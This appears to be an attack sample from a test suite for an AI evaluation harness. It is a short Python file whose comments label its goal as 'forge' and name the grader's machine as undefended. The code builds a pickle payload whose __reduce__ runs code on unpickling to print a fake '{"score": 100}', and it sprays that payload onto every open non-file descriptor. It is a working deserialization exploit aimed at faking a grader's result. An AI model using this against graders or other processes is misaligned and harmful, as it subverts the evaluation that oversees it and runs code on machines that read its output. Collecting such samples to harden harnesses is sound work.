# tries: a reply that runs code wherever it is unpickled, and raw pickles on every pipe
# fails: nothing on the wire names a type or a function, and nobody unpickles anything
# goal: forge
# stopped from: T0
# undefended: elsewhere: points where replies are pickles, and the grader's machine with them
# class: without it, which is slow
os, pickle, stat = map(__builtins__["__import__"], ("os", "pickle", "stat"))


class Trap:
    def __reduce__(self):
        return print, ('{"score": 100}',)


def attack(*arguments, **keywords):
    payload = pickle.dumps({"value": Trap()})
    for descriptor in range(3, 64):
        try:
            if not stat.S_ISREG(os.fstat(descriptor).st_mode):
                os.write(descriptor, len(payload).to_bytes(4, "big") + payload)
        except OSError:
            continue
    return Trap()
